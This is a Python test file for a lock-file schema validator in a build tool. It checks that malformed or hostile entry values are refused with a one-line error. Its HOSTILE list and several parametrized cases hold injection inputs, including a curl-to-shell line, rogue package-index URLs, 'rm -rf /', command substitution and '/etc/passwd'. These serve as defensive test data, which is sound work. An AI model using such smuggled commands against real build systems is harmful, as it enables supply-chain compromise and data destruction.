"""Every value of a lock entry is checked when the lock is read: a hostile value is one line, exit 2, naming
file, entry, field and value; and any document the loader accepts is well formed throughout."""

from __future__ import annotations

import copy
import json
import re
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from packaging.version import Version
from pydantic import ValidationError

from rocmstack.errors import ExitCode, RecipeError
from rocmstack.lock.file import arch_key, closure_of, lock_path, read_lock
from rocmstack.lock.schema import (
    ENTRY_KEYS,
    Base,
    GitPin,
    LockEntry,
    LockError,
    Package,
    RuleRow,
    Stamp,
    check_document,
    check_entry,
    checked,
)
from rocmstack.output import dumps
from rocmstack.recipe.load import find_recipe
from rocmstack.recipe.model import LAYER_ORDER, SELF_LAYER

COMMIT = "a" * 40
HASH = "sha256:" + "b" * 64
LAYERS = sorted([*(layer.value for layer in LAYER_ORDER), SELF_LAYER])
HOSTILE = [
    "x\nRUN curl evil | sh",
    "--index-url https://evil.example/simple",
    "1.0 --trusted-host evil.example",
    "../..",
    "/etc/passwd",
    '"; rm -rf / #',
    "$(id)",
    "`id`",
    "\x1b[2J",
    "",
    " 1.0",
    "1.0\n",
]


@cache
def shipped() -> dict[str, Any]:
    return read_lock(lock_path(find_recipe("verl-0.9.0-rocm10"))) or {}


def _entry() -> dict[str, Any]:
    return copy.deepcopy(shipped()["entries"]["gfx942;gfx950"])


def _doc(entry: dict[str, Any]) -> dict[str, Any]:
    return {"schema": 1, "recipe": "r", "entries": {"gfx942;gfx950": entry}}


def test_the_shipped_locks_are_accepted():
    assert set(shipped()["entries"]) == {"gfx942", "gfx942;gfx950", "gfx950"}


@pytest.mark.parametrize(
    ("where", "value", "field"),
    [
        (("git", "mbridge", "commit"), "abc", "git.mbridge.commit"),
        (("git", "mbridge", "commit"), COMMIT.upper(), "git.mbridge.commit"),
        (("packages", 0, "layer"), "../..", "packages[0].layer"),
        (("packages", 0, "name"), "Numpy", "packages[0].name"),
        (("packages", 0, "version"), "1.0\n--index-url x", "packages[0].version"),
        (("packages", 0, "version"), " 1.0", "packages[0].version"),
        (("packages", 0, "hashes"), ["md5:00"], "packages[0].hashes[0]"),
        (("packages", 0, "hashes"), "sha256:x", "packages[0].hashes"),
        (("base_digest",), "latest", "base_digest"),
        (("schema",), True, "schema"),
        (("rules", 0, "status"), "ok", "rules[0].status"),
        (("rocmstack_requirements", 0), "--index-url x", "rocmstack_requirements[0]"),
        (("gpu_archs",), ["gfx942"], "gpu_archs"),
    ],
)
def test_a_bad_value_is_one_line_naming_file_entry_field_and_value(where, value, field):
    entry = _entry()
    node: Any = entry
    for step in where[:-1]:
        node = node[step]
    node[where[-1]] = value
    with pytest.raises(LockError) as err:
        check_document(_doc(entry), Path("x.lock.json"))
    line = err.value.one_line()
    assert line.startswith(f"x.lock.json: entry 'gfx942;gfx950': {field} = "), line
    assert "\n" not in line and err.value.exit_code == ExitCode.USAGE


@pytest.mark.parametrize("where", [(), ("packages", 0), ("git", "mbridge"), ("base",), ("rules", 0)])
def test_unknown_keys_are_refused_at_every_level(where):
    entry = _entry()
    node: Any = entry
    for step in where:
        node = node[step]
    node["extra"] = "x"
    with pytest.raises(LockError, match=r": .*extra = 'extra': unknown key"):
        check_document(_doc(entry), Path("x.lock.json"))


@pytest.mark.parametrize("status", ["pass", "warn", "fail", "skip", "ignored"])
def test_a_rule_row_takes_the_one_status_and_the_skip_earlier_locks_spelled_ignored(status):
    entry = _entry()
    entry["rules"][0] = {"id": entry["rules"][0]["id"], "status": status, "reason": "why"}
    check_document(_doc(entry), Path("x.lock.json"))


@pytest.mark.parametrize("status", ["error", "skipped", "ok", "PASS"])
def test_a_rule_row_refuses_any_other_status(status):
    entry = _entry()
    entry["rules"][0]["status"] = status
    with pytest.raises(LockError, match=r"rules\[0\]\.status = .*not pass, warn, fail or skip"):
        check_document(_doc(entry), Path("x.lock.json"))


def test_the_header_and_the_entry_keys_are_checked():
    with pytest.raises(LockError, match="entries = 'latest'"):
        check_document({"schema": 1, "recipe": "r", "entries": {"latest": _entry()}}, Path("x"))
    with pytest.raises(LockError, match="extra = 'extra': unknown key"):
        check_document({**_doc(_entry()), "extra": 1}, Path("x"))


def test_checked_is_the_renderers_filter():
    assert checked("commit", COMMIT) == COMMIT and checked("layer", SELF_LAYER) == SELF_LAYER
    for kind, value in (("commit", f"{COMMIT}\nRUN x"), ("layer", "../x"), ("version", "1 --x")):
        with pytest.raises(LockError, match="refusing to render lock value"):
            checked(kind, value)


# --- property: the loader accepts only well-formed documents, and refuses everything else with exit 2 ---

_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.sampled_from(HOSTILE) | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
_versions = st.sampled_from(["1.0", "2.0.1", "1!2.0.post1", "0.9.0rc1", "2.9.0+rocm7.0", "1.0.dev3"])
_package = st.fixed_dictionaries(
    {
        "name": st.from_regex(r"[a-z0-9]([a-z0-9._-]{0,10}[a-z0-9])?", fullmatch=True),
        "version": _versions,
        "hashes": st.lists(st.from_regex(r"sha256:[0-9a-f]{64}", fullmatch=True), max_size=2),
        "layer": st.sampled_from(LAYERS),
    }
)


def _has(node: Any, step: Any) -> bool:
    if isinstance(node, dict):
        return step in node
    return isinstance(node, list) and isinstance(step, int) and step < len(node)


@st.composite
def documents(draw: st.DrawFn) -> Any:
    entry = _entry()
    entry["packages"] = draw(st.lists(_package, max_size=3))
    entry["git"]["mbridge"]["commit"] = draw(st.sampled_from([COMMIT, None]))
    doc: Any = _doc(entry)
    for _ in range(draw(st.integers(0, 3))):  # spoil a few places, or none
        path = draw(st.sampled_from(_PLACES))
        node = doc
        for step in path[:-1]:
            if not _has(node, step):
                break
            node = node[step]
        else:
            last = path[-1]
            if isinstance(node, dict) or (
                isinstance(node, list) and isinstance(last, int) and last < len(node)
            ):
                node[last] = draw(_json)
    return doc


_PLACES: list[tuple[Any, ...]] = [
    ("schema",),
    ("recipe",),
    ("entries",),
    ("extra",),
    *[("entries", "gfx942;gfx950", key) for key in sorted(ENTRY_KEYS)],
    ("entries", "gfx942;gfx950", "unknown"),
    *[("entries", "gfx942;gfx950", "packages", 0, k) for k in ("name", "version", "hashes", "layer", "x")],
    ("entries", "gfx942;gfx950", "packages", 0),
    ("entries", "gfx942;gfx950", "packages", 0, "hashes", 0),
    *[("entries", "gfx942;gfx950", "git", "mbridge", k) for k in ("commit", "url", "ref", "x")],
    ("entries", "gfx942;gfx950", "git", "mbridge"),
]


def _well_formed(doc: Any) -> None:
    """An independent reading of what a lock may hold where it reaches the build context."""
    assert set(doc) <= {"schema", "recipe", "entries"} and doc["schema"] == 1
    for key, entry in doc["entries"].items():
        assert re.fullmatch(r"gfx[0-9a-f]{3,4}(;gfx[0-9a-f]{3,4})*", key)
        assert set(entry) <= ENTRY_KEYS
        for p in entry.get("packages", ()):
            assert set(p) == {"name", "version", "hashes", "layer"}
            assert re.fullmatch(r"[a-z0-9]([a-z0-9._-]*[a-z0-9])?", p["name"])
            assert (
                isinstance(p["version"], str)
                and str(Version(p["version"]))
                and p["version"].strip() == p["version"]
            )
            assert p["layer"] in LAYERS
            assert all(re.fullmatch(r"sha256:[0-9a-f]{64}", h) for h in p["hashes"])
        for g in (entry.get("git") or {}).values():
            assert g["commit"] is None or re.fullmatch(r"[0-9a-f]{40}", g["commit"])


@pytest.mark.property
@given(documents())
@example(_doc({**_entry(), "packages": [{"name": "x", "version": "1\n-i u", "hashes": [], "layer": "ray"}]}))
def test_the_loader_accepts_well_formed_locks_and_refuses_the_rest(doc):
    from rocmstack.recipe.resolve import Resolved
    from rocmstack.render.context import locked_requirements

    text = json.dumps(doc)
    try:
        data = check_document(json.loads(text), Path("x.lock.json"))
    except RecipeError as err:  # LockError, or "not a rocmstack lock file": exit 2; anything else fails here
        assert err.exit_code == ExitCode.USAGE and "\n" not in err.one_line()
        return
    _well_formed(data)
    for entry in data["entries"].values():
        resolved = Resolved(
            recipe=_recipe(), source=Path("x.yaml"), gpu_archs=("gfx942",), locked=closure_of(entry)
        )
        for body in locked_requirements(resolved).values():
            for line in body.splitlines():
                assert re.fullmatch(
                    r"[a-z0-9._-]+==[0-9A-Za-z.!+_-]+( \\)?|    --hash=sha256:[0-9a-f]{64}( \\)?", line
                ), line


@cache
def _recipe() -> Any:
    from rocmstack.recipe.load import load_recipe

    return load_recipe("verl-0.9.0-rocm10")[0]


def test_an_image_lock_document_is_checked_without_an_arch_key():
    entry = _entry()
    check_entry(entry, "image")
    entry["git"]["mbridge"]["commit"] = "HEAD"
    with pytest.raises(LockError, match=r"^image: git.mbridge.commit = 'HEAD'"):
        check_entry(entry, "image")


@pytest.mark.parametrize("layer", [[], {}, 7, None])
def test_a_layer_that_is_no_string_is_refused_not_a_crash(layer):
    # Found by the property test: an unhashable layer reached a set lookup (TypeError, a traceback).
    from rocmstack.lock.schema import check_document

    doc = copy.deepcopy(shipped())
    doc["entries"]["gfx942;gfx950"]["packages"][0]["layer"] = layer
    with pytest.raises(RecipeError) as exc:
        check_document(doc, Path("x.lock.json"))
    assert exc.value.exit_code == ExitCode.USAGE and ".layer" in exc.value.message


# --- the model: LockEntry is what check_entry accepts, and the entries rocmstack writes are LockEntry dumps ---


def _dumped(entry: LockEntry) -> dict[str, Any]:
    return entry.model_dump(mode="json", by_alias=True, exclude_unset=True)


def test_a_pydantic_built_entry_round_trips():
    built = LockEntry(
        schema=1,
        recipe="r",
        render_hash="c" * 64,
        gpu_archs=["gfx942"],
        base=Base(image="rocm/x:1", digest=None, python="3.12"),
        rocmstack=Stamp(version="0.1.0"),
        packages=[Package(name="numpy", version="2.0.1", layer="ray", hashes=[HASH])],
        git={"mbridge": GitPin(url="https://x.example/m.git", ref="main", commit=COMMIT)},
        rules=[RuleRow(id="a-rule", status="pass"), RuleRow(id="b", status="warn", reason="why")],
    )
    doc = _dumped(built)
    assert doc["base"] == {"image": "rocm/x:1", "digest": None, "python": "3.12"}  # unset stays absent
    assert doc["rules"][0] == {"id": "a-rule", "status": "pass"} and doc["schema"] == 1
    assert check_entry(json.loads(dumps(doc)), "x", "gfx942") == doc
    assert LockEntry.model_validate(doc) == built


def test_every_committed_entry_is_a_lock_entry_byte_for_byte():
    for path in sorted(Path(find_recipe("verl-0.9.0-rocm10")).parent.glob("*.lock.json")):
        for entry in (read_lock(path) or {})["entries"].values():
            assert dumps(_dumped(LockEntry.model_validate(entry))) == dumps(entry), path


def test_the_entries_rocmstack_builds_are_lock_entries_byte_for_byte():
    # Resolved.lock and prepare.make_entry build plain dicts; through the model they come back the same.
    from rocmstack.prepare import lock_resolved
    from rocmstack.recipe.resolve import resolve

    resolved = resolve(_recipe(), find_recipe("verl-0.9.0-rocm10"), None, ())
    for entry in (
        lock_resolved(resolved),
        lock_resolved(resolved, closure=closure_of(_entry())),
        resolved.lock(render_hash="d" * 64, revision="abc"),
    ):
        assert dumps(_dumped(LockEntry.model_validate(entry))) == dumps(entry)
        check_entry(json.loads(dumps(entry)), "x", arch_key(resolved.gpu_archs))


def _refusal(entry: object) -> str:
    with pytest.raises(LockError) as err:
        check_entry(entry, "o")
    return str(err.value)


def test_the_first_bad_value_in_reading_order_is_named():
    entry = _entry()
    package = entry["packages"][0]
    assert list(package).index("hashes") < list(package).index("name")  # written with sorted keys
    package.update(hashes="x", name="X")  # name is checked before hashes
    assert _refusal(entry) == "o: packages[0].name = 'X': not a normalised PEP 503 package name"
    package["zz"] = 1  # an unknown key before a bad value
    assert _refusal(entry) == "o: packages[0].zz = 'zz': unknown key"
    del package["zz"], package["version"]  # a missing key before a bad value
    assert _refusal(entry) == "o: packages[0].version = 'null': missing"
    # Top-level keys (and the base's) in the document's order, whatever the model's field order.
    assert _refusal({"unverified": [7], "schema": 2}) == "o: unverified[0] = '7': not a one-line string"
    assert (
        _refusal({"base": {"torch": 1, "image": 2}, "schema": 2})
        == "o: base.torch = '1': not a one-line string"
    )
    assert _refusal({"rules": [], "extra": 1, "recipe": 2}) == "o: extra = 'extra': unknown key"
    # A component map's bad key is named at the map; a string map's at its own field.
    assert _refusal({"git": {"Bad": {"url": 1}}}) == "o: git = 'Bad': not a component name"
    assert _refusal({"env": {"\x1b": 1}}) == "o: env.\x1b = '\\x1b': not a one-line string"


@pytest.mark.parametrize(
    ("schema", "shown"), [(True, "true"), (1.0, "1.0"), ("1", "1"), (2, "2"), (None, "null")]
)
def test_a_schema_that_is_not_the_int_1_is_refused(schema, shown):
    assert _refusal({"schema": schema}) == f"o: schema = '{shown}': not 1"
    with pytest.raises(ValidationError):
        LockEntry.model_validate({"schema": schema})
    assert check_entry({"schema": 1}, "o") == {"schema": 1}
